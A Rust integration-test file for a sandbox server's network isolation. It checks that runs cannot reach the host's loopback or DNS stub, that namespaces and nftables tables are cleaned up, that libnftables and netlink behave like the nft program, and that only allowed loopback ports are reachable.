    let v4 = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = v4.local_addr().unwrap_or_else(|e| panic!("{e}")).port();
    let v6 = std::net::TcpListener::bind(("::1", port)).ok();
    for l in std::iter::once(&v4).chain(v6.iter()) {
        l.set_nonblocking(true).unwrap_or_else(|e| panic!("{e}"));
    }
    // From the run: its own loopback, the relay's gateway (slirp4netns maps it to the host's
    // loopback unless told not to), its IPv6 router, QEMU-style 10.0.2.2.
    let script = format!(
        "{PROBE}
echo \"lo4=$(fetch_curl http://127.0.0.1:{port}/)\"
echo \"lo6=$(fetch_curl 'http://[::1]:{port}/')\"
echo \"gw4=$(fetch_curl http://198.19.249.2:{port}/)\"
echo \"gw6=$(fetch_curl 'http://[fd00::2]:{port}/')\"
echo \"qemu=$(fetch_curl http://10.0.2.2:{port}/)\"
"
    );
    let req = request(&script, net_policy(&["api.example.test"], &[]));
    let o = lab.run(&req);
    let kv = o.kv();
    for k in ["lo4", "lo6", "gw4", "gw6", "qemu"] {
        let v = kv
            .get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"));
        assert!(!v.ends_with("rc=0"), "{k}: {v}");
    }
    assert!(v4.accept().is_err(), "the run reached the host's 127.0.0.1");
    if let Some(v6) = v6 {
        assert!(v6.accept().is_err(), "the run reached the host's ::1");
    }
    assert_no_table(&o, &req.run_id);
}

#[test]
fn privileged_net_the_dns_stub_answers_only_inside_the_run() {
    privileged!();
    let lab = internet();
    let req = request(
        "#!/bin/bash\npython3 -c 'import socket; socket.getaddrinfo(\"api.example.test\", 80); print(\"resolved=ok\")'\nsleep 3\n",
        net_policy(&["api.example.test"], &[]),
    );
    let child = lab.spawn(&req);
    wait_for_table(&req.run_id);
    std::thread::sleep(Duration::from_millis(500));
    // The stub's address (the one in the run's resolv.conf) is in the table's rules.
    let table = out(&[
        "nft",
        "list",
        "table",
        "inet",
        &format!("band_{}", req.run_id),
    ]);
    let stub = table
        .lines()
        .find_map(|l| {
            l.trim()
                .strip_prefix("ip daddr ")
                .filter(|r| r.contains("skuid != {"))
                .and_then(|r| r.split_whitespace().next())
        })
        .unwrap_or_else(|| panic!("no stub rule in {table}"))
        .to_string();
    // From the host, as root (which the table's rules would let through): no answer, UDP or TCP.
    let probe = format!(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n\
         try:\n    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03api\\x07example\\x04test\\x00\\x00\\x01\\x00\\x01', ('{stub}', 53)); s.recv(512); print('answered')\n\
         except OSError as e: print('no answer', type(e).__name__)"
    );
    let udp = out(&["/usr/bin/python3", "-c", &probe]);
    let stub_ip: std::net::IpAddr = stub.parse().unwrap_or_else(|e| panic!("{stub}: {e}"));
    let tcp = std::net::TcpStream::connect_timeout(
        &std::net::SocketAddr::new(stub_ip, 53),
        Duration::from_secs(1),
    );
    let o = finish(child);
    assert!(
        udp.starts_with("no answer"),
        "the host reached the run's stub: {udp}"
    );
    assert!(
        tcp.is_err(),
        "the host connected to the run's stub over TCP"
    );
    assert_eq!(
        o.kv().get("resolved").map(String::as_str),
        Some("ok"),
        "{o:#?}"
    );
    assert!(lab.log("dns.log").contains("api.example.test"));
    assert_no_table(&o, &req.run_id);
}

/// Processes (pid, uid, targets of their descriptors) whose name is `comm`.
fn processes_named(comm: &str) -> Vec<(u32, u32, Vec<String>)> {
    let mut v = Vec::new();
    for e in fs_err::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
            continue;
        };
        let dir = e.path();
        if !fs_err::read_to_string(dir.join("comm")).is_ok_and(|c| c.trim() == comm) {
            continue;
        }
        let uid = fs_err::read_to_string(dir.join("status"))
            .unwrap_or_default()
            .lines()
            .find_map(|l| l.strip_prefix("Uid:"))
            .and_then(|r| r.split_whitespace().next().and_then(|u| u.parse().ok()))
            .unwrap_or(u32::MAX);
        let fds = fs_err::read_dir(dir.join("fd"))
            .into_iter()
            .flatten()
            .flatten()
            .filter_map(|f| fs_err::read_link(f.path()).ok())
            .map(|t| t.display().to_string())
            .collect();
        v.push((pid, uid, fds));
    }
    v
}

/// What still names the network namespace `ns` (`net:[inode]`): a process in it, an open
/// descriptor of it, a file under /run/netns.
fn netns_referenced(ns: &str) -> Vec<String> {
    let mut found = Vec::new();
    for e in fs_err::read_dir("/proc").into_iter().flatten().flatten() {
        if e.file_name()
            .to_str()
            .is_none_or(|s| s.parse::<u32>().is_err())
        {
            continue;
        }
        let dir = e.path();
        if fs_err::read_link(dir.join("ns/net")).is_ok_and(|t| t.display().to_string() == ns) {
            found.push(format!("{} ns/net", dir.display()));
        }
        for f in fs_err::read_dir(dir.join("fd"))
            .into_iter()
            .flatten()
            .flatten()
        {
            if fs_err::read_link(f.path()).is_ok_and(|t| t.display().to_string() == ns) {
                found.push(f.path().display().to_string());
            }
        }
    }
    let inode = ns.trim_start_matches("net:[").trim_end_matches(']');
    for e in fs_err::read_dir("/run/netns")
        .into_iter()
        .flatten()
        .flatten()
    {
        use std::os::unix::fs::MetadataExt;
        if fs_err::metadata(e.path()).is_ok_and(|m| m.ino().to_string() == inode) {
            found.push(e.path().display().to_string());
        }
    }
    found
}

#[test]
fn privileged_net_nothing_of_the_run_network_is_left_after_it() {
    privileged!();
    let lab = internet();
    let req = request(
        "#!/bin/bash\npython3 -c 'import os; print(\"netns=\" + os.readlink(\"/proc/self/ns/net\")); print(\"uid=%d\" % os.getuid())'\nsleep 2\n",
        net_policy(&["api.example.test"], &[]),
    );
    let host_ns = fs_err::read_link("/proc/self/ns/net")
        .unwrap_or_else(|e| panic!("{e}"))
        .display()
        .to_string();
    let child = lab.spawn(&req);
    wait_for_table(&req.run_id);
    std::thread::sleep(Duration::from_millis(500));
    let relays = processes_named("slirp4netns");
    let o = finish(child);
    let kv = o.kv();
    let get = |k: &str| {
        kv.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"))
    };
    let (ns, uid) = (get("netns"), get("uid"));
    assert_ne!(ns, host_ns, "the run shared the host's network namespace");
    // During the run its relay ran as the run's uid, holding the run's namespace.
    let relay: Vec<u32> = relays
        .iter()
        .filter(|(_, u, fds)| u.to_string() == uid && fds.contains(&ns))
        .map(|(pid, _, _)| *pid)
        .collect();
    assert_eq!(relay.len(), 1, "no relay of the run in {relays:?}");
    // After it: no relay, nothing holding the namespace (so it and its tap are gone), no table.
    assert!(
        !Path::new(&format!("/proc/{}", relay[0])).exists(),
        "the relay survived the run"
    );
    assert_eq!(netns_referenced(&ns), Vec::<String>::new());
    assert_no_table(&o, &req.run_id);
}

/// band-server speaks to nftables in process, through libnftables, when the configured nft is
/// the system's: the same text, the same transactions and the same JSON as the `nft` program
/// (which is that library's front end). Seen from the `nft` program: a run's whole ruleset
/// applied through the library is there, rule for rule; a stub's batch added through it is in
/// the sets the report reads, listed alike by both; a batch the kernel refuses fails, with
/// nftables' message, and changes nothing; a deletion through it is gone.
#[test]
fn privileged_net_libnftables_and_the_nft_program_agree() {
    privileged!();
    use band_server::layers::net::nft::{self, Dest, NetPlan, Nft};
    let system = Path::new(band_server::config::DEFAULT_NFT);
    let lib = Nft::new(system);
    assert!(
        lib.in_process(),
        "libnftables.so.1 does not open (apt-get install libnftables1)"
    );
    let program = Nft::program(system);
    assert!(!program.in_process());
    let table = nft::table_name(&format!("{:x}libtest", std::process::id()));
    let plan = NetPlan {
        table: table.clone(),
        uid: 61999,
        stub: "127.77.9.1".parse().expect("ip"),
        deny: vec![Dest::addr("203.0.113.9".parse().expect("ip"), None)],
        allow: vec![Dest::addr("198.51.100.7".parse().expect("ip"), Some(443))],
        any_public: Vec::new(),
        never: Vec::new(),
    };
    lib.apply(&nft::ruleset(&plan))
        .expect("the ruleset, in process");
    let shown = program.list_table(&table).expect("nft list table");
    assert!(
        shown.contains("203.0.113.9") && shown.contains("198.51.100.7"),
        "{shown}"
    );
    assert_eq!(
        lib.list_table(&table).expect("listed in process"),
        shown,
        "the library prints the table as the program does"
    );

    let learned = nft::learn_batch(
        &table,
        &[Dest::addr("198.51.100.20".parse().expect("ip"), Some(80))],
        &[],
    );
    lib.apply(&learned).expect("the stub's batch, in process");
    let names = ["dns4", "seen4", "denied6"];
    let sets = program
        .list_sets(&table, &names)
        .expect("sets, by the program");
    assert_eq!(
        sets.keys().map(String::as_str).collect::<Vec<_>>(),
        ["denied6", "dns4", "seen4"],
        "the sets asked for, and only those"
    );
    assert_eq!(
        lib.list_sets(&table, &names).expect("sets, in process"),
        sets
    );
    assert!(
        program
            .list_table(&table)
            .expect("listed")
            .contains("198.51.100.20"),
        "the learned address is in the table"
    );

    // Refused by the kernel (no such set): an error naming it, and nothing changed.
    let before = program.list_table(&table).expect("listed");
    let bad = format!("add element inet {table} nosuchset {{ 192.0.2.1 }}\n");
    let err = lib.apply(&bad).expect_err("a batch the kernel refuses");
    assert!(
        err.to_string().contains("nosuchset") || err.to_string().contains("No such file"),
        "{err}"
    );
    assert_eq!(program.list_table(&table).expect("listed"), before);

    assert!(lib.list_tables().expect("tables").contains(&table));
    // The run loop's watch asks for its own table only, in process and through the program.
    assert_eq!(lib.table_exists(&table).ok(), Some(true));
    assert_eq!(program.table_exists(&table).ok(), Some(true));
    lib.delete_table(&table).expect("deleted in process");
    assert!(!program.list_tables().expect("tables").contains(&table));
    assert!(!band_tables().contains(&table));
    assert_eq!(lib.table_exists(&table).ok(), Some(false));
    assert_eq!(program.table_exists(&table).ok(), Some(false));
}

/// The run's own requests go to nf_tables over netlink when the configured nft is the system's
/// (no ruleset cache fetched, so nothing to restart when other runs change theirs): the elements
/// the DNS stub adds that way are, listed by the `nft` program, exactly those `nft` itself adds
/// from the same answers (IPv4 and IPv6, one port and every port, allowed and denied); a change
/// the kernel refuses is an error naming it; the watch and the removal see and remove the table.
#[test]
fn privileged_net_netlink_adds_what_nft_adds() {
    privileged!();
    use band_server::layers::net::nft::{self, Dest, NetPlan, Nft};
    let system = Path::new(band_server::config::DEFAULT_NFT);
    let (netlink, program) = (Nft::new(system), Nft::program(system));
    let tables = [
        nft::table_name(&format!("{:x}nlprog", std::process::id())),
        nft::table_name(&format!("{:x}nlnetl", std::process::id())),
    ];
    for table in &tables {
        let plan = NetPlan {
            table: table.clone(),
            uid: 61998,
            stub: "127.77.9.2".parse().expect("ip"),
            deny: Vec::new(),
            allow: Vec::new(),
            any_public: Vec::new(),
            never: Vec::new(),
        };
        program.apply(&nft::ruleset(&plan)).expect("the ruleset");
    }
    let ip = |s: &str| s.parse::<std::net::IpAddr>().expect("ip");
    let allow = [
        Dest::addr(ip("198.51.100.20"), Some(443)),
        Dest::addr(ip("198.51.100.21"), None),
        Dest::addr(ip("2001:db8::20"), Some(8443)),
        Dest::addr(ip("2001:db8::21"), None),
    ];
    let deny = [
        Dest::addr(ip("198.51.100.20"), Some(25)),
        Dest::addr(ip("2001:db8::20"), Some(25)),
    ];
    program
        .apply(&nft::learn_batch(&tables[0], &allow, &deny))
        .expect("added by nft");
    netlink
        .learn(&tables[1], &allow, &deny)
        .expect("added over netlink");
    let listed = |t: &str| program.list_table(t).expect("listed").replace(t, "TABLE");
    let by_nft = listed(&tables[0]);
    assert!(by_nft.contains("2001:db8::20 . 8443"), "{by_nft}");
    assert_eq!(listed(&tables[1]), by_nft);

    // Refused by the kernel: an error that names the change, and nothing added.
    let missing = nft::table_name(&format!("{:x}nlnone", std::process::id()));
    let err = netlink
        .learn(&missing, &allow, &deny)
        .expect_err("no such table");
    assert!(
        err.to_string()
            .contains(&format!("add elements to inet {missing}")),
        "{err}"
    );
    assert_eq!(netlink.table_exists(&missing).ok(), Some(false));
    assert!(netlink.delete_table(&missing).is_err());

    for t in &tables {
        assert_eq!(netlink.table_exists(t).ok(), Some(true));
        netlink.delete_table(t).expect("deleted over netlink");
        assert_eq!(program.table_exists(t).ok(), Some(false));
        assert!(!band_tables().contains(t));
    }
}

/// A host service on loopback for the loopback-port tests: answers each connection with
/// `<tag>:<what it read>`, and counts them. Stops when dropped.
struct HostService {
    port: u16,
    served: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl HostService {
    /// On `ip` and `port` (0: any free port); `None` when `ip` cannot be bound (no IPv6).
    fn start(ip: &str, port: u16, tag: &'static str) -> Option<HostService> {
        use std::io::{Read, Write};
        let l = std::net::TcpListener::bind((ip, port)).ok()?;
        l.set_nonblocking(true).unwrap_or_else(|e| panic!("{e}"));
        let port = l.local_addr().unwrap_or_else(|e| panic!("{e}")).port();
        let served = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let (n, s) = (served.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::SeqCst) {
                match l.accept() {
                    Ok((mut c, _)) => {
                        n.fetch_add(1, Ordering::SeqCst);
                        let _ = c.set_nonblocking(false);
                        let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                        let mut buf = Vec::new();
                        let _ = c.read_to_end(&mut buf);
                        let _ = c.write_all(
                            format!("{tag}:{}", String::from_utf8_lossy(&buf).trim()).as_bytes(),
                        );
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Some(HostService {
            port,
            served,
            stop,
            thread: Some(thread),
        })
    }

    fn served(&self) -> usize {
        self.served.load(Ordering::SeqCst)
    }
}

impl Drop for HostService {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A server config whose resolver is a dead loopback port (the loopback tests resolve no name
/// through it: `localhost` is in the sandbox's /etc/hosts).
fn config_dead_resolver(dir: &Path) -> std::path::PathBuf {
    let cfg = dir.join("server.toml");
    fs_err::write(&cfg, "dns_upstream = [\"127.0.0.1:9\"]\n").unwrap_or_else(|e| panic!("{e}"));
    cfg
}

/// `allow.net: ["localhost:P1", "localhost:P3"]` reaches ports P1 and P3 of the host's loopback
/// from inside the run, by `127.0.0.1`, `[::1]` and `localhost` alike (P3 only on the host's
/// `::1`: the relay tries `127.0.0.1`, then `::1`); port P2 of the host, not allowed, is out of
/// reach. Each use is in the report, named `localhost`; after the run nothing of its network is
/// left.
#[test]
fn privileged_net_an_allowed_loopback_port_reaches_the_host_and_no_other_port_does() {
    privileged!();
    let p1 = HostService::start("127.0.0.1", 0, "p1").unwrap_or_else(|| panic!("no 127.0.0.1"));
    let p2 = HostService::start("127.0.0.1", 0, "p2").unwrap_or_else(|| panic!("no 127.0.0.1"));
    let p3 = HostService::start("::1", 0, "p3");
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cfg = config_dead_resolver(dir.path());
    let mut allow = vec![format!("localhost:{}", p1.port)];
    allow.extend(p3.iter().map(|s| format!("localhost:{}", s.port)));
    let allow: Vec<&str> = allow.iter().map(String::as_str).collect();
    let mut targets = vec![
        ("v4", "127.0.0.1", p1.port),
        ("v6", "::1", p1.port),
        ("name", "localhost", p1.port),
        ("p2", "127.0.0.1", p2.port),
        ("p2v6", "::1", p2.port),
    ];
    if let Some(p3) = &p3 {
        targets.push(("p3", "127.0.0.1", p3.port));
    }
    let asks: String = targets
        .iter()
        .map(|(k, h, p)| format!("print('{k}=' + ask('{h}', {p}))\n"))
        .collect();
    let script = format!(
        "#!/bin/bash\npython3 - <<'PY'\nimport socket\n\
         def ask(host, port):\n    try:\n        s = socket.create_connection((host, port), timeout=5)\n        \
         s.sendall(b'ping'); s.shutdown(socket.SHUT_WR)\n        data = b''\n        while True:\n            \
         b = s.recv(100)\n            if not b: break\n            data += b\n        return data.decode() or 'empty'\n    \
         except OSError as e:\n        return 'error ' + type(e).__name__\n{asks}\
         print('netns=' + __import__('os').readlink('/proc/self/ns/net'))\nPY\n"
    );
    let req = request(&script, net_policy(&allow, &[]));
    let o = finish(spawn_with_config(&req, &cfg));
    assert_eq!(o.result.status, Status::Ok, "{o:#?}");
    let kv = o.kv();
    let get = |k: &str| {
        kv.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"))
    };
    // The host's service answered through the relay, whichever address the run used.
    assert_eq!(get("v4"), "p1:ping");
    assert_eq!(get("v6"), "p1:ping");
    assert_eq!(get("name"), "p1:ping");
    if p3.is_some() {
        assert_eq!(get("p3"), "p3:ping");
    }
    // The port not allowed: the run's own loopback, where nothing listens.
    assert_eq!(get("p2"), "error ConnectionRefusedError");
    assert_eq!(get("p2v6"), "error ConnectionRefusedError");
    assert_eq!(
        p2.served(),
        0,
        "the run reached a host port it was not given"
    );
    assert_eq!(p1.served(), 3);
    // The report names each use `localhost`, on the port used, and nothing on P2.
    let net = o
        .result
        .network
        .clone()
        .unwrap_or_else(|| panic!("no network report in {o:#?}"));
    let lo: BTreeSet<(String, u16, Vec<String>)> = net
        .contacted
        .iter()
        .map(|f| (f.addr.clone(), f.port, f.names.clone()))
        .collect();
    let localhost = vec!["localhost".to_string()];
    let mut want = BTreeSet::from([
        ("127.0.0.1".to_string(), p1.port, localhost.clone()),
        ("::1".to_string(), p1.port, localhost.clone()),
    ]);
    if let Some(p3) = &p3 {
        want.insert(("127.0.0.1".to_string(), p3.port, localhost.clone()));
    }
    assert_eq!(lo, want);
    // Nothing of the run's network is left: its namespace (which the relay's listeners were
    // in) is held by nothing, and its table is gone.
    assert_eq!(netns_referenced(&get("netns")), Vec::<String>::new());
    assert_no_table(&o, &req.run_id);
}
